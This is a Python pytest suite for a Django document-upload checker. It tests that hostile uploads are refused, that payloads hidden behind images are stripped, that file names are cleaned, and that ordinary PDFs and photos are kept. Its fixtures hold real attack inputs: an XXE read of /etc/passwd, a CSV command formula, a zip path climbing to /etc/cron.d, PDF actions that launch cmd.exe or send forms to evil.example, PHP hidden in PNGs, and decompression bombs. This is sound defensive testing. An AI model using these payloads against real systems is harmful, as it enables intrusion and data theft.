"""What must not be kept is refused in words; what only looks odd, and what real programs make, is kept."""

from __future__ import annotations

import zlib
from io import BytesIO

import pikepdf
import pytest
import typst
from django.core.files.base import ContentFile
from pikepdf import Array, Dictionary, Name, Stream
from PIL import Image

from onewindow.cases.uploads import UploadFault, checked, joined
from tests.cases import hostile_files as made

OTHER = "不能收"
BROKEN = "不完整或已损坏"
ACTS = "含有脚本、附件或动态表单"
LOCKED = "密码"
TOO_LARGE = "展开后过大"
TANGLED = "内部结构过于复杂"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
ZIP_TAIL = made.packed(files={"run.exe": b"MZ"}, tail=b"%%EOF")
UNPACKS = zlib.compress(b"\0" * 60_000_000, 9)

REFUSED: dict[str, tuple[str, bytes, str]] = {
    "nothing in it": ("a.pdf", b"", "是空的"),
    "SVG called PNG": ("a.png", SVG, OTHER),
    "a web page": ("a.jpg", b"<!doctype html><script>alert(1)</script>", OTHER),
    "an archived web page": ("a.pdf", b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n", OTHER),
    "a script": ("a.js", b"alert(document.cookie)", OTHER),
    "XML that reads files": ("a.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', OTHER),
    "PostScript called PDF": ("a.pdf", b"%!PS-Adobe-3.0\nquit\n%%EOF", OTHER),
    "a PDF behind a web page": ("a.pdf", b"<html>" + made.pdf(), OTHER),
    "a Windows program": ("a.pdf", b"MZ\x90\0" + b"\0" * 200, OTHER),
    "a Linux program": ("a.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 60, OTHER),
    "GIF": ("a.png", made.picture("GIF"), OTHER),
    "WebP": ("a.jpg", made.picture("WEBP"), OTHER),
    "TIFF": ("a.jpg", made.picture("TIFF"), OTHER),
    "BMP": ("a.jpg", made.picture("BMP"), OTHER),
    "an old Word file": ("a.pdf", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, OTHER),
    "a Word file with macros": ("a.pdf", made.office("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), OTHER),
    "a sheet with ActiveX": ("a.pdf", made.office("xl/activeX/activeX1.bin", b"\0"), OTHER),
    "a zip that unpacks a thousandfold": ("a.jpg", made.packed(files={"a": b"\0" * 5_000_000}), OTHER),
    "a zip in a zip": ("a.jpg", made.packed(files={"a.zip": made.packed(files={"b": b"1"})}), OTHER),
    "a zip that climbs": ("a.jpg", made.packed(files={"../../etc/cron.d/x": b"1", "/abs": b"1"}), OTHER),
    "a table with formulas": ("a.csv", b"=cmd|'/c calc'!A1,1\n", OTHER),
    "60,000 pixels square": ("a.png", made.png_of(60_000, 60_000), TOO_LARGE),
    "a JPEG of 65,000 square": ("a.jpg", made.wide_jpeg(65_000, 65_000), TOO_LARGE),
    "a JPEG of 400 passes": ("a.jpg", made.gone_over_again(400), TOO_LARGE),
    "a text that unpacks": ("a.png", made.png_of(8, 8, made.chunk(b"zTXt", b"a\0\0" + UNPACKS)), BROKEN),
    "a PNG cut short": ("a.png", made.picture("PNG", (300, 300))[:-30], BROKEN),
    "a PNG without rows": ("a.png", made.png_of(300, 300, packed_rows=b""), BROKEN),
    "a JPEG cut short": ("a.jpg", made.picture("JPEG", (400, 400))[:700], BROKEN),
    "a JPEG of two bytes more than its mark": ("a.jpg", b"\xff\xd8\xff\xe0\x00", BROKEN),
    "PDF: a script when opened": ("a.pdf", made.with_root(OpenAction=made.script()), ACTS),
    "PDF: a script when closed": ("a.pdf", made.with_root(AA=Dictionary(WC=made.script())), ACTS),
    "PDF: a script by name": ("a.pdf", made.with_root(Names=Dictionary(JavaScript=Dictionary(Names=Array(["a", made.script()])))), ACTS),
    "PDF: a script in packed objects": ("a.pdf", made.hidden_script(), ACTS),
    "PDF: a script on a page": ("a.pdf", made.with_page(AA=Dictionary(O=made.script())), ACTS),
    "PDF: a script on a link": ("a.pdf", made.with_page(Annots=Array([made.annotation("Link", A=made.script())])), ACTS),
    "PDF: a program to start": ("a.pdf", made.with_root(OpenAction=made.action("Launch", F="cmd.exe")), ACTS),
    "PDF: a program behind a link": ("a.pdf", made.with_page(Annots=Array([made.annotation("Link", A=made.action("Launch", F="a"))])), ACTS),
    "PDF: a site opened by itself": ("a.pdf", made.with_root(OpenAction=made.action("URI", URI="https://evil.example")), ACTS),
    "PDF: a site opened by a page": ("a.pdf", made.with_page(AA=Dictionary(O=made.action("URI", URI="https://evil.example"))), ACTS),
    "PDF: another file opened": ("a.pdf", made.with_root(OpenAction=made.action("GoToR", F=r"\\evil\share")), ACTS),
    "PDF: a form that sends itself": ("a.pdf", made.with_page(Annots=Array([made.annotation("Link", A=made.action("SubmitForm", F="http://evil.example"))])), ACTS),
    "PDF: data fetched": ("a.pdf", made.with_page(Annots=Array([made.annotation("Link", A=made.action("ImportData", F="a.fdf"))])), ACTS),
    "PDF: a form of XFA": ("a.pdf", made.with_root(AcroForm=Dictionary(Fields=Array([]), XFA="<xdp/>")), ACTS),
    "PDF: a file within": ("a.pdf", made.with_page(Annots=Array([made.annotation("FileAttachment", FS=Dictionary(EF=Dictionary(F="x")))])), ACTS),
    "PDF: rich media": ("a.pdf", made.with_page(Annots=Array([made.annotation("RichMedia", RichMediaContent=Dictionary(A=1))])), ACTS),
    "PDF: locked": ("a.pdf", made.pdf(encryption=pikepdf.Encryption(owner="o", user="u")), LOCKED),
    "PDF: rights withheld": ("a.pdf", made.pdf(encryption=pikepdf.Encryption(owner="o", user="")), LOCKED),
    "PDF: 200,000 things in it": ("a.pdf", made.many_objects(200_000), TANGLED),
    "PDF: a structure that unpacks": ("a.pdf", made.unpacking_structure(60), BROKEN),
    "PDF: thousands of packed structures": ("a.pdf", made.pdf() + b"<< /Fir#73t 4 >>" * 400 + b"\n%%EOF", TANGLED),
    "PDF: pages within themselves": ("a.pdf", made.own_parent(), BROKEN),
    "PDF: a zip as well": ("a.pdf", made.pdf() + ZIP_TAIL, "同时又是压缩文件"),
    "PDF: only its beginning": ("a.pdf", made.pdf()[:200], "没有结尾"),
    "PDF: nothing but marks": ("a.pdf", b"%PDF-1.7\n%%EOF", BROKEN),
    "PDF: no pages": ("a.pdf", made.pages(0), "0 页"),
    "PDF: 301 pages": ("a.pdf", made.pages(301), "301 页"),
}  # fmt: skip


@pytest.mark.parametrize("sort", REFUSED)
def test_a_file_that_could_do_harm_is_refused_in_words(sort: str) -> None:
    name, content, words = REFUSED[sort]
    with pytest.raises(UploadFault) as fault:
        checked(ContentFile(content, name))
    assert words in fault.value.message
    assert (fault.value.status, fault.value.code) == (422, "upload-refused")


HIDDEN: dict[str, bytes] = {
    "a zip behind a JPEG": made.picture("JPEG") + made.packed(files={"run.exe": b"EVIL-TAIL"}),
    "a page behind a JPEG": made.picture("JPEG") + b"<script>EVIL-TAIL</script>",
    "PHP within a PNG": made.png_of(8, 8, made.chunk(b"tEXt", b"a\0<?php EVIL-TAIL ?>"), packed_rows=zlib.compress(b"\0" * 200)),
    "PHP behind a PNG": made.picture("PNG") + b"<?php EVIL-TAIL ?>",
    "a comment in a JPEG": made.picture("JPEG", comment=b"EVIL-TAIL"),
    "a colour profile of a megabyte": made.picture("JPEG", icc_profile=b"EVIL-TAIL" * 100_000),
}  # fmt: skip


@pytest.mark.parametrize("sort", HIDDEN)
def test_of_a_picture_only_the_picture_is_kept(sort: str) -> None:
    kept = checked(ContentFile(HIDDEN[sort], "a.jpg"))
    assert b"EVIL-TAIL" not in kept.content
    with Image.open(BytesIO(kept.content)) as image:
        image.load()


@pytest.mark.parametrize(
    ("called", "kept"),
    [
        ("合同.pdf.exe", "合同.pdf.exe"), ("..\\..\\boot.ini", "boot.ini"), ("C:\\CON", "CON"), ("\u202efdp.exe", "fdp.exe"),
        ("a\nb\t c.pdf", "a b c.pdf"), ("长" * 300 + ".pdf", "长" * 100), ("-rf.pdf", "-rf.pdf"), ("\u200b", "未命名"),
        ("scan.pdf. ", "scan.pdf."), ("cafe\u0301.pdf", "café.pdf"), ("x\ufeff.pdf", "x.pdf"),
    ],
)  # fmt: skip
def test_a_name_is_kept_as_a_reader_sees_it_and_decides_nothing(called: str, kept: str) -> None:
    file = ContentFile(made.pdf(), "a.pdf")
    file.name = called
    assert checked(file).name == kept


def printed() -> bytes:
    """A page as Typst makes it, which prints our own papers: fonts, links, an outline, packed objects."""
    source = '#set page(paper: "a4")\n#set document(title: "合同")\n= 合同\n见 #link("https://example.cn")[附件]。#pagebreak()\n== 第二页'
    return bytes(typst.compile(source.encode()))


def scanned() -> bytes:
    """A scan of three pages as Pillow makes it."""
    content, pages = BytesIO(), [Image.new("L", (620, 877), 255) for _ in range(3)]
    pages[0].save(content, "PDF", save_all=True, append_images=pages[1:], resolution=75)
    return content.getvalue()


def goes_to_its_second_page() -> bytes:
    def put(whole: pikepdf.Pdf) -> None:
        whole.add_blank_page()
        whole.Root.OpenAction = made.action("GoTo", D=Array([whole.pages[1].obj, Name.Fit]))

    return made.pdf(put)


def form_filled_in() -> bytes:
    def put(whole: pikepdf.Pdf) -> None:
        field = whole.make_indirect(made.annotation("Widget", FT=Name.Tx, T="name", V="李秀英"))
        whole.pages[0].obj.Annots = Array([field])
        whole.Root.AcroForm = Dictionary(Fields=Array([field]))

    return made.pdf(put)


def drawn_of_much() -> bytes:
    """A page whose content unpacks to 40 MB, as large plans do: the structure is what must stay small."""

    def put(whole: pikepdf.Pdf) -> None:
        drawing = zlib.compress(b"0 0 m 1 1 l S\n" * 3_000_000)
        whole.pages[0].obj.Contents = Stream(whole, drawing, Filter=Name.FlateDecode)

    return made.pdf(put)


KEPT: dict[str, tuple[bytes, int]] = {
    "a paper by Typst": (printed(), 2),
    "a scan by Pillow": (scanned(), 3),
    "a PDF in packed objects": (made.pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), 1),
    "a PDF for the web": (made.pdf(linearize=True), 1),
    "an old PDF": (made.pdf(force_version="1.3", object_stream_mode=pikepdf.ObjectStreamMode.disable), 1),
    "a PDF that opens on its second page": (goes_to_its_second_page(), 2),
    "a form filled in": (form_filled_in(), 1),
    "a PDF with a link": (made.with_page(Annots=Array([made.annotation("Link", A=made.action("URI", URI="https://a.cn"))])), 1),
    "a PDF with a large drawing": (drawn_of_much(), 1),
    "a PDF and a few blank lines": (made.pdf() + b"\r\n\r\n\0\0", 1),
    "a photograph": (made.picture("JPEG", (4000, 3000), quality=90), 1),
    "a progressive photograph": (made.picture("JPEG", (800, 600), progressive=True), 1),
    "a photograph for print": (made.picture("JPEG", mode="CMYK"), 1),
    "a fax": (made.picture("PNG", (1728, 2200), "1"), 1),
    "a screenshot of few colours": (made.picture("PNG", mode="P"), 1),
    "a drawing with transparency": (made.picture("PNG", mode="LA"), 1),
    "a scan of 16 bits": (made.picture("PNG", mode="I;16"), 1),
    "a strip of a till": (made.picture("PNG", (300, 20_000), "L"), 1),
}  # fmt: skip


@pytest.mark.parametrize("sort", KEPT)
def test_what_real_programs_make_is_kept(sort: str) -> None:
    content, pages = KEPT[sort]
    kept = checked(ContentFile(content, "scan.pdf"))
    assert kept.pages == pages
    both = joined([kept, checked(ContentFile(made.pdf(), "more.pdf"))])
    assert both is not None
    assert both.pages == pages + 1
